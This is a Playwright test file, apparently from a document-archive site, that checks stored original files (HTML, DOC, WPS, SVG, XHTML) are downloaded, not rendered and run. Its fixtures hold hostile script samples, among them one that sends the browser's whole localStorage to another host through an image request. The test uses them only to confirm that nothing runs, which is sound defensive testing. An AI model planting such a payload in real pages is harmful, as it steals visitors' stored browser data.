/** Original files that would run if a browser took them for pages: whichever way one is opened, it is saved, and nothing runs. */
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import { expect, test } from '@playwright/test';
import { keptExtension } from '../../src/core/report/original-name.ts';
import type { SourceFormat } from '../../src/core/report/report.ts';
import { createSiteServer } from '../../src/pipeline/site-server.ts';

/** Reads the notebook, and sends it to another host; a picture does as much without script. */
const TRIES = `<!doctype html><html><head><meta charset="utf-8"><title>总结</title></head><body>
<script>localStorage.setItem('tried', '1'); new Image().src = 'http://127.0.0.1:9/?' + JSON.stringify(localStorage);</script>
<img src="http://127.0.0.1:9/picture.gif">工作总结</body></html>`;

const ORIGINALS: readonly { file: string; format: SourceFormat; text?: string }[] = [
  { file: 'a.html', format: 'html' },
  { file: 'b.htm', format: 'html' },
  { file: 'c.doc', format: 'html' },
  { file: 'd.wps', format: 'html' },
  { file: 'e.md', format: 'md' },
  { file: 'f.txt', format: 'txt' },
  {
    file: 'g.svg',
    format: 'html',
    text: `<svg xmlns="http://www.w3.org/2000/svg"><script>localStorage.setItem('tried', '1')</script></svg>`,
  },
  {
    file: 'h.xhtml',
    format: 'html',
    text: `<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><script>localStorage.setItem('tried', '1')</script></html>`,
  },
];

let folder = '';
let server: Server;
/** A server that says of no file what it is, as one without a table of types does. */
let bare: Server;
const addressOf = (of: Server): string => `http://127.0.0.1:${(of.address() as AddressInfo).port}/`;

test.beforeAll(async () => {
  folder = mkdtempSync(join(tmpdir(), 'wenmai-originals-'));
  mkdirSync(join(folder, 'originals'));
  writeFileSync(join(folder, 'index.html'), '<!doctype html><title>馆藏</title>');
  const files = ORIGINALS.map(({ file, format, text = TRIES }) => ({
    name: file.slice(0, 1) + keptExtension({ file, format }),
    text,
  }));
  for (const { name, text } of files) {
    writeFileSync(join(folder, 'originals', name), text);
    writeFileSync(
      join(folder, `${name}.page.html`),
      `<!doctype html><a href="originals/${name}" download="原件">下载</a>`,
    );
  }
  const types: Readonly<Record<string, string>> = {
    txt: 'text/plain',
    html: 'text/html',
    bin: 'application/octet-stream',
  };
  server = createSiteServer({ outDir: folder });
  bare = createServer((request, response) => {
    const path = decodeURIComponent((request.url ?? '').slice(1));
    const found = files.find(({ name }) => path === `originals/${name}`);
    const type = types[path.slice(path.lastIndexOf('.') + 1)];
    response.writeHead(200, type === undefined ? {} : { 'Content-Type': type }).end(found?.text ?? '<!doctype html>');
  });
  for (const each of [server, bare]) await new Promise<void>((resolve) => each.listen(0, '127.0.0.1', resolve));
});

test.afterAll(() => {
  for (const each of [server, bare]) {
    each.close();
    each.closeAllConnections();
  }
  rmSync(folder, { recursive: true, force: true });
});

const PLACES: Readonly<Record<string, () => string>> = {
  'from the disk': () => `${pathToFileURL(folder).href}/`,
  'from our server': () => addressOf(server),
  'from a server that knows few types': () => addressOf(bare),
};

for (const [place, rootOf] of Object.entries(PLACES)) {
  test(`no original is run ${place}`, async ({ page }) => {
    const root = rootOf();
    const asked: string[] = [];
    page.on('request', (request) => asked.push(request.url()));
    for (const { file, format } of ORIGINALS) {
      const name = file.slice(0, 1) + keptExtension({ file, format });
      await test.step(name, async () => {
        asked.length = 0;
        // A file offered for saving ends the visit with an error; a file shown as text does not.
        await page.goto(`${root}originals/${name}`).catch(() => undefined);
        await page.waitForTimeout(300);
        await page.goto(`${root}${name}.page.html`).catch(() => undefined);
        if (!root.startsWith('http') || root === addressOf(server)) {
          await page.getByText('下载').click();
          await page.waitForTimeout(300);
        }
        expect
          .soft(
            asked.filter((url) => url.includes(':9/')),
            name,
          )
          .toEqual([]);
        await page.goto(`${root}index.html`);
        expect.soft(await page.evaluate(() => localStorage.getItem('tried')), name).toBeNull();
        // The next file is judged by itself.
        await page.evaluate(() => localStorage.clear());
      });
    }
  });
}
